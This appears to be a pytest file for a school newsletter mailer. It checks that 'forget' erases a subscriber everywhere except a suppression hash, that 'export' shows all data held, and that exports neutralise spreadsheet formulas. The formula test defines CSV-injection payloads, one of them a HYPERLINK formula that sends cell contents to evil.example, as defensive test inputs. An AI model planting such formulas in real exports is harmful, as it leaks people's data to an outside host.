"""Erasure and access are complete (issue 8, item 5): after `forget` the address is nowhere,
not in any table or column of the database, nor in any file under data/ and outbox/, and
only the keyed suppression hash is left; `export` shows everything held, consent history,
sends and suppression included; exports and listings are safe to open in a spreadsheet (item 8)."""
from __future__ import annotations

import csv
import io
import json
import sqlite3
from urllib.parse import quote, unquote

from mailer.store import Store, address_hash
from tests.mailer_support import SPRING, WINTER, import_text
from tests.provider_fixtures import mailgun_server  # noqa: F401  (fixture)
from tests.send_support import alliance_with, api_env, db_path, mailer

ZOE = "zoe@school.example"


def mentions(text: str, *needles: str) -> list[str]:
    """The needles found in ``text``, in any letter case or percent-encoding."""
    plain = unquote(unquote(text)).lower()
    return [n for n in needles if n.lower() in plain]


def database_cells(db) -> list[tuple[str, str, str]]:
    """(table, column, value) of every cell of every table."""
    conn = sqlite3.connect(db)
    cells = []
    for (table,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'"):
        cursor = conn.execute(f'SELECT * FROM "{table}"')
        names = [d[0] for d in cursor.description]
        for row in cursor:
            cells += [(table, name, str(value)) for name, value in zip(names, row)]
    conn.close()
    return cells


def files_under(*folders) -> dict[str, str]:
    return {str(p): p.read_bytes().decode("latin-1") for folder in folders for p in folder.rglob("*") if p.is_file()}


def test_forget_leaves_the_address_nowhere(tmp_path, mailgun_server):
    root = alliance_with(tmp_path)
    # a provider refuses the winter batch, naming Zoë in its message (upper case, percent-encoded)
    mailgun_server.fail_next(400, message=f"'to' parameter is not valid: {ZOE.upper()} ({quote(ZOE)})")
    sent = mailer(root, "send", WINTER, env=api_env(mailgun_server))
    assert "failed" in sent.stdout
    assert mailer(root, "send", SPRING).exit_code == 0                      # .eml copies in outbox/
    with Store(db_path(root)) as store:
        if hasattr(store, "add_consent_event"):           # (so that the test also runs on the code before it)
            store.add_consent_event(ZOE, given=True, at=store_now(), source="sign-up form",
                                    detail=f"confirmed by {ZOE}", wording="v3")
    listed = mailer(root, "status", WINTER, "--list", "failed").stdout
    found_before = {name: v for name, v in files_under(root / "data", root / "outbox").items() if mentions(v, ZOE)}
    assert mentions(listed, ZOE) and found_before                              # the test can fail
    with Store(db_path(root)) as store:
        key = getattr(store, "key", lambda digest: digest)(address_hash(ZOE))    # the stored hash

    result = mailer(root, "subscribers", "forget", ZOE.upper())
    assert result.exit_code == 0, result.output
    assert result.stdout == (f"forgot {ZOE}: personal data erased; 1 outbox copy deleted; only a hash is kept so "
                             "no import adds it again\n")

    cells = database_cells(db_path(root))
    assert [c for c in cells if mentions(c[2], ZOE, "Ångström", address_hash(ZOE))] == []
    assert [(t, c) for t, c, v in cells if key in v] == [("suppressions", "address_hash")]   # only the hash
    assert {name: mentions(v, ZOE, "Ångström", "Angstr", address_hash(ZOE))
            for name, v in files_under(root / "data", root / "outbox").items()
            if mentions(v, ZOE, "Ångström", "Angstr", address_hash(ZOE))} == {}
    listed = mailer(root, "status", WINTER, "--list", "failed").stdout
    assert not mentions(listed, ZOE) and "(forgotten)" in listed
    assert mailer(root, "status", WINTER).stdout.startswith(f"{WINTER}: 5 readers:")   # the counts stay
    again = mailer(root, "subscribers", "import", str(root / "subscribers.csv"))
    assert "1 unsubscribed or suppressed (left alone)" in again.stdout           # never mailed again


def store_now():
    import datetime as dt
    return dt.datetime.now(dt.timezone.utc)


def test_export_holds_everything_about_a_person(tmp_path, mailgun_server):
    root = alliance_with(tmp_path)
    assert mailer(root, "send", WINTER, env=api_env(mailgun_server)).exit_code == 0
    provider_id = mailgun_server.messages_to(ZOE)[0].provider_id
    assert mailer(root, "subscribers", "unsubscribe", ZOE).exit_code == 0

    data = json.loads(mailer(root, "subscribers", "export", ZOE, "--json").stdout)
    assert len(data) == 1
    held = data[0]
    assert held["subscriber"]["first_name"] == "Zoë" and held["subscriber"]["status"] == "unsubscribed"
    assert [(s["edition"], s["outcome"], s["provider_message_id"]) for s in held["sends"]] == [
        (WINTER, "sent", provider_id)]
    assert held["sends"][0]["date"][:4] == "2026"
    assert [(e["given"], e["source"]) for e in held["consent_history"]] == [(True, "import"), (False, "office")]
    assert held["suppression"]["reason"] == "unsubscribed"

    rows = list(csv.DictReader(io.StringIO(mailer(root, "subscribers", "export", ZOE).stdout)))
    assert len(rows) == 1
    assert rows[0]["sends"].startswith(f"{WINTER} 2026-") and rows[0]["sends"].endswith(f" sent ({provider_id})")
    assert "given: import" in rows[0]["consent_history"] and "withdrawn: office" in rows[0]["consent_history"]
    assert rows[0]["suppression"].startswith("unsubscribed 20")

    status = mailer(root, "subscribers", "status", ZOE)
    assert status.exit_code == 0
    lines = status.stdout.splitlines()
    assert lines[0] == f"{ZOE}: not sent newsletters"
    assert "  consent history (2 events, the last one decides):" in lines
    assert any(line.startswith("    ") and "withdrawn: office" in line for line in lines)


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def test_exports_and_listings_neutralise_formulas(tmp_path):
    root = alliance_with(tmp_path)
    with open(tmp_path / "evil.csv", "w", encoding="utf-8", newline="") as handle:
        out = csv.writer(handle)
        out.writerow(["email", "first_name", "last_name", "school", "roles", "consent"])
        out.writerows([f"evil{i}@x.example", f, f, f, "teacher", "yes"] for i, f in enumerate(FORMULAS))
        out.writerow(["=cmd@x.example", "Eve", "Doe", "School", "teacher", "yes"])
    assert mailer(root, "subscribers", "import", str(tmp_path / "evil.csv")).exit_code == 0
    export = mailer(root, "subscribers", "export").stdout
    listing = mailer(root, "subscribers", "list").stdout
    rows = list(csv.reader(io.StringIO(export)))
    cells = [cell for row in rows for cell in row] + [c for line in listing.splitlines() for c in line.split("\t")]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-"]   # "-": none
    assert dangerous == []
    assert f"'{FORMULAS[0]}" in [cell for row in rows for cell in row]
    assert all(line.startswith('"') for line in export.splitlines())           # every cell quoted
    # and the export imports again as it was
    (tmp_path / "again.csv").write_text(export, encoding="utf-8")
    with Store(db_path(root)) as store:
        result = import_text(store, tmp_path, export, name="again.csv")
        assert result.skipped == 0 and result.added == 0
        assert store.subscriber("evil0@x.example")["first_name"] == FORMULAS[0]
        assert store.subscriber("=cmd@x.example") is not None
